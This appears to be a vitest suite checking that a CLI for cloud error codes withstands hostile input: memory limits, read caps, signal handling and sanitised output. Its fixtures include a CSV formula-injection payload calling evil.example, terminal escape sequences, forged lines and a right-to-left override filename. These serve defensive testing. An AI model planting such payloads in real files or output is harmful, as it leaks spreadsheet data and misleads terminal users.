// SECURITY.md's promises held against the built command under attack: memory stays bounded on
// hostile streams (peak RSS of the child, read once at its exit), whatever the line length.
import { execFileSync, spawn } from 'node:child_process'
import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, describe, expect, it, onTestFinished } from 'vitest'
import { feed, hasPeakRss, readWhenIdle, runCliMeasured } from '../support/cli.js'

const MiB = 1 << 20

// About 1 MiB of one line: `perChunk` distinct codes (`AB.00000000` on), `spacing` bytes apart.
const distinctCodes = (spacing: number) => {
  const pad = ' '.repeat(spacing - 12)
  const perChunk = Math.floor(MiB / spacing)
  return (i: number): string => {
    let text = ''
    for (let k = 0; k < perChunk; k++) text += `AB.${String(i * perChunk + k).padStart(8, '0')}${pad} `
    return text
  }
}

describe.skipIf(!hasPeakRss)('classify under attack (built CLI)', () => {
  const dir = mkdtempSync(join(tmpdir(), 'otc-limits-'))
  afterAll(() => rmSync(dir, { recursive: true, force: true }))

  it('a 256 MiB line of 2.8 million distinct codes: per-line state is bounded (issue 15 item 5)', async () => {
    // Each distinct code was remembered for the whole line: 1.7 GB, then `Set maximum size exceeded`.
    let out = ''
    let chunks = 0
    const r = await runCliMeasured(['classify', '--format', 'json'], async (child) => {
      child.stdout.setEncoding('utf8').on('data', (d: string) => (out += d))
      chunks = await feed(child.stdin, 256 * MiB, distinctCodes(96))
    })
    expect([r.code, r.stderr]).toEqual([0, ''])
    // Every code is still found and counted (the tally keeps the first 10,000 by name).
    const report = JSON.parse(out) as { lines: number; findings: number; longLines: number }
    expect(report).toMatchObject({ lines: 1, findings: chunks * Math.floor(MiB / 96), longLines: 1 })
    expect(r.peakMiB, `peak RSS ${r.peakMiB.toFixed(0)} MiB`).toBeLessThan(320)
  }, 300_000)
  it('ndjson to a slow reader: classify waits for stdout instead of holding its output (issue 15 item 6)', async () => {
    // 12 MiB of log, ten codes a line: 1.1 million findings, about 180 MiB of ndjson.
    const line = 'status=404 AS.2007 AS.0001 APIGW.0308 IMG.0027 ECS.0005 DBS.200019 VPC.0101 ELB.1001 CCE.01403001 SFS.TURBO.0001\n'
    const lines = Math.floor((12 * MiB) / line.length)
    const log = join(dir, 'many-findings.log')
    writeFileSync(log, line.repeat(lines))
    let records = 0
    let bytes = 0
    const r = await runCliMeasured(['classify', log, '--format', 'ndjson'], (child) =>
      readWhenIdle(child, (chunk) => {
        bytes += chunk.length
        for (let at = chunk.indexOf(10); at !== -1; at = chunk.indexOf(10, at + 1)) records += 1
      }),
    )
    expect([r.code, r.stderr]).toEqual([0, ''])
    expect(records).toBe(lines * 10)
    // Holding the output would take its size and more; waiting holds a piece's worth.
    expect(r.peakMiB, `peak RSS ${r.peakMiB.toFixed(0)} MiB for ${(bytes / MiB).toFixed(0)} MiB of output`).toBeLessThan(256)
  }, 300_000)
})

const cli = new URL('../../dist/node/cli.js', import.meta.url).pathname
const root = new URL('../..', import.meta.url).pathname

// Runs the built CLI to its end; `input` (if any) is written to stdin as far as the CLI reads it.
const run = (args: ReadonlyArray<string>, input?: { readonly bytes: number }) =>
  new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve) => {
    const child = spawn(process.execPath, [cli, ...args], { cwd: root, stdio: ['pipe', 'pipe', 'pipe'] })
    let stdout = ''
    let stderr = ''
    child.stdout.setEncoding('utf8').on('data', (d: string) => (stdout += d))
    child.stderr.setEncoding('utf8').on('data', (d: string) => (stderr += d))
    child.on('close', (code) => resolve({ code, stdout, stderr }))
    child.stdin.on('error', () => undefined)
    if (input === undefined) child.stdin.end()
    else void feed(child.stdin, input.bytes, () => 'x'.repeat(MiB))
  })

describe('whole-input reads are capped (issue 15 item 8)', () => {
  const dir = mkdtempSync(join(tmpdir(), 'otc-caps-'))
  const cap = '64 MiB, the most otc-errors reads of one input'
  // A regular file past the cap (sparse: no disk used), and a catalogue directory holding a
  // device without end.
  const huge = join(dir, 'huge.http')
  writeFileSync(huge, '')
  truncateSync(huge, 65 * MiB)
  const catalogDir = join(dir, 'catalog')
  mkdirSync(catalogDir)
  symlinkSync('/dev/zero', join(catalogDir, 'zero.json'))

  it.each([
    ['explain /dev/zero', ['explain', '/dev/zero'], '/dev/zero'],
    ['explain a 65 MiB file', ['explain', huge], huge],
    ['explain --catalog /dev/zero', ['explain', '--catalog', '/dev/zero', 'examples/as-0001.http'], '/dev/zero'],
    ['lookup --catalog /dev/zero', ['lookup', 'AS.0001', '--catalog', '/dev/zero'], '/dev/zero'],
    ['classify --catalog /dev/zero', ['classify', '--catalog', '/dev/zero', 'examples/as-0001.http'], '/dev/zero'],
    ['catalog export --catalog DIR with /dev/zero in it', ['catalog', 'export', '--catalog', catalogDir], join(catalogDir, 'zero.json')],
  ])('%s: one line naming the input and the cap, exit 2', async (_name, args, input) => {
    const r = await run(args)
    expect(r.code).toBe(2)
    expect(r.stderr.startsWith(`otc-errors ${args[0]}: `)).toBe(true)
    expect(r.stderr).toContain(`${input} is larger than ${cap}`)
    expect(r.stderr.trim().split('\n')).toHaveLength(1)
  })
  it('validate DIR with /dev/zero in it: the file is reported, exit 1 or 2, no endless read', async () => {
    const r = await run(['validate', catalogDir])
    expect(r.code).not.toBe(0)
    expect(`${r.stdout}${r.stderr}`).toContain(`${join(catalogDir, 'zero.json')} is larger than ${cap}`)
  })
  it('explain from stdin past the cap: stops reading there, exit 2', async () => {
    const r = await run(['explain'], { bytes: 80 * MiB })
    expect(r.code).toBe(2)
    expect(r.stderr).toBe(`otc-errors explain: stdin is larger than ${cap}\n`)
  })
})

// Resolves once the child has read all but the last pipe-full of `text` plus 2 MiB of filler:
// 'drain' fires only when the child reads, and the CLI listens for signals before it reads.
const writeAndWaitUntilRead = (stdin: NodeJS.WritableStream, text: string): Promise<void> =>
  new Promise((resolve, reject) => {
    const filler = 'INFO GET /v1/servers 200 served in 12 ms\n'.repeat(Math.ceil((2 * MiB) / 41))
    stdin.once('error', reject)
    if (stdin.write(text + filler)) reject(new Error('the pipe took 2 MiB without pushing back; the readiness signal needs a full pipe'))
    else stdin.once('drain', () => resolve())
  })

// Whether one of the process's threads waits in the kernel for a FIFO's writer.
const waitsForFifoWriter = (pid: number): boolean => {
  try {
    return readdirSync(`/proc/${pid}/task`).some((tid) => readFileSync(`/proc/${pid}/task/${tid}/wchan`, 'utf8') === 'wait_for_partner')
  } catch {
    return false
  }
}
const canSeeWchan = existsSync('/proc/self/wchan')

describe.skipIf(!hasPeakRss)('signals (issue 15 item 9)', () => {
  const dir = mkdtempSync(join(tmpdir(), 'otc-signals-'))
  const start = (args: ReadonlyArray<string>) => {
    const child = spawn(process.execPath, [cli, ...args], { cwd: root, stdio: ['pipe', 'pipe', 'pipe'] })
    let stdout = ''
    let stderr = ''
    child.stdout.setEncoding('utf8').on('data', (d: string) => (stdout += d))
    child.stderr.setEncoding('utf8').on('data', (d: string) => (stderr += d))
    child.stdin.on('error', () => undefined)
    const closed = new Promise<{ code: number | null; signal: NodeJS.Signals | null }>((resolve) => child.on('close', (code, signal) => resolve({ code, signal })))
    // A CLI that hangs fails the test by its timeout, and is not left behind.
    onTestFinished(() => {
      if (child.exitCode === null && child.signalCode === null) child.kill('SIGKILL')
    })
    return { child, closed, out: () => ({ stdout, stderr }) }
  }

  it('SIGTERM ends classify like Ctrl-C: the partial summary, exit 143', async () => {
    const { child, closed, out } = start(['classify'])
    await writeAndWaitUntilRead(child.stdin, 'status=429 error_code=APIGW.0308\nstatus=404 error_code=AS.2007\n')
    child.kill('SIGTERM')
    expect(await closed).toEqual({ code: 143, signal: null })
    const { stdout, stderr } = out()
    expect(stdout).toMatch(/^APIGW\.0308 +1 +APIG +throttled +yes/m)
    expect(stdout).toContain('interrupted')
    expect(stderr).toBe('otc-errors classify: interrupted; the result below covers what was read so far.\n')
    child.stdin.destroy()
  })
  it('SIGTERM while ndjson waits for a reader: every record printed is whole', async () => {
    const { child, closed, out } = start(['classify', '--format', 'ndjson'])
    // Nobody reads yet: once the first records arrive (the CLI is scanning, its handlers set),
    // it soon waits for stdout with records pending; then it is told to stop.
    child.stdout.pause()
    const printed = new Promise((resolve) => child.stdout.once('readable', resolve))
    child.stdin.write('status=404 AS.2007 AS.0001 APIGW.0308 IMG.0027 ECS.0005 DBS.200019 VPC.0101 ELB.1001 CCE.01403001 SFS.TURBO.0001\n'.repeat(20_000))
    await printed
    child.kill('SIGTERM')
    child.stdout.resume()
    expect((await closed).code).toBe(143)
    const { stdout } = out()
    expect(stdout.endsWith('\n')).toBe(true)
    const records = stdout.trimEnd().split('\n')
    expect(records.length).toBeGreaterThan(1000)
    for (const record of records) expect(() => JSON.parse(record), record.slice(0, 80)).not.toThrow()
    child.stdin.destroy()
  })
  describe.skipIf(!canSeeWchan)('a FIFO without a writer', () => {
    const fifo = (name: string): string => {
      const path = join(dir, name)
      execFileSync('mkfifo', [path])
      return path
    }
    // Resolves once the CLI waits in the kernel to open the FIFO (so its handlers are set).
    const untilBlocked = async (pid: number): Promise<void> => {
      while (!waitsForFifoWriter(pid)) await new Promise((resolve) => setTimeout(resolve, 10))
    }
    it('Ctrl-C while classify waits to open it: the (empty) summary, exit 130', async () => {
      const { child, closed, out } = start(['classify', fifo('one')])
      await untilBlocked(child.pid as number)
      child.kill('SIGINT')
      expect(await closed).toEqual({ code: 130, signal: null })
      expect(out().stdout).toContain('No error codes found in 0 lines.')
    })
    it('a second Ctrl-C right after the first ends it at once, exit 130', async () => {
      const { child, closed } = start(['classify', fifo('two'), '--format', 'ndjson'])
      await untilBlocked(child.pid as number)
      child.kill('SIGINT')
      child.kill('SIGINT')
      expect(await closed).toEqual({ code: 130, signal: null })
    })
  })
})

describe('output sinks (issue 15 item 7)', () => {
  const dir = mkdtempSync(join(tmpdir(), 'otc-sinks-'))
  const ESC = '\u001b'
  // A catalogue file of your own whose text is hostile: formulas for spreadsheets, escape
  // sequences for terminals (retitle, clear, recolour), a forged line.
  const hostile = join(dir, 'evil.json')
  const entry = { code: 'EVIL.0001', status: 400, category: 'validation', retry: 'never' }
  writeFileSync(
    hostile,
    JSON.stringify({
      service: 'EVIL',
      title: 'Evil',
      prefixes: ['EVIL'],
      sources: [],
      entries: [
        { ...entry, message: '=HYPERLINK("http://evil.example/?"&A1,"click")', remedy: `${ESC}]0;pwned\u0007${ESC}[2Jcleared\nFAKE: line` },
        { ...entry, code: 'EVIL.0002', message: '+1+1', remedy: '@SUM(A1)' },
        { ...entry, code: 'EVIL.0003', message: '-2+3', remedy: '\tTab' },
        { ...entry, code: 'EVIL.0004', message: '\rCR', remedy: 'plain' },
      ],
    }),
  )

  it('catalog export --format csv: a cell a spreadsheet would run is quoted behind a single quote', async () => {
    const r = await run(['catalog', 'export', '--format', 'csv', '--catalog', hostile])
    expect(r.code).toBe(0)
    const rows = r.stdout.split('\r\n').filter((l) => l.startsWith('EVIL.'))
    expect(rows).toEqual([
      `EVIL.0001,EVIL,400,validation,false,never,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`,
      `EVIL.0002,EVIL,400,validation,false,never,"'+1+1"`,
      `EVIL.0003,EVIL,400,validation,false,never,"'-2+3"`,
      `EVIL.0004,EVIL,400,validation,false,never,"'\rCR"`,
    ])
  })
  it('lookup: escape sequences and line breaks in the entry are shown as escapes', async () => {
    const r = await run(['lookup', 'EVIL.0001', '--catalog', hostile])
    expect(r.code).toBe(0)
    expect(r.stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/)
    expect(r.stdout).toContain('remedy    \\x1b]0;pwned\\x07\\x1b[2Jcleared\\nFAKE: line\n')
  })
  it('explain: what the body says is shown, never obeyed; the code and request id too', async () => {
    const body = join(dir, 'body.json')
    writeFileSync(
      body,
      JSON.stringify({ error_code: `AS.0001${ESC}[31m`, error_msg: `${ESC}]0;pwned\u0007${ESC}[2J bad\r\nFAKE: line \u009b31m \u202egnp.exe`, request_id: `abcd${ESC}[8m` }),
    )
    const r = await run(['explain', '--status', '400', body])
    expect(r.code).toBe(0)
    expect(r.stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/)
    expect(r.stdout.split('\n')[0]).toContain('\\x1b]0;pwned\\x07\\x1b[2J bad\\r\\nFAKE: line \\x9b31m \\u202egnp.exe')
    expect(r.stdout).not.toMatch(/^FAKE/m)
  })
  it('classify summary: a file name with escape sequences is shown as escapes', async () => {
    const log = join(dir, `app${ESC}[2J.log`)
    writeFileSync(log, 'status=429 APIGW.0308\n')
    const r = await run(['classify', log])
    expect(r.code).toBe(0)
    expect(r.stdout).not.toContain(ESC)
    expect(r.stdout).toContain('app\\x1b[2J.log:1')
  })
  it('an HTML title of any length is cut at 2,000 characters, with an ellipsis', async () => {
    const page = join(dir, 'page.http')
    writeFileSync(page, `HTTP/1.1 502 Bad Gateway\r\nContent-Type: text/html\r\n\r\n<html><title>${'Gateway trouble '.repeat(50_000)}</title></html>`)
    const r = await run(['explain', '--json', page])
    const x = JSON.parse(r.stdout) as { message: string }
    expect(x.message.length).toBeLessThanOrEqual(2001)
    expect(x.message.endsWith('…')).toBe(true)
  })
})
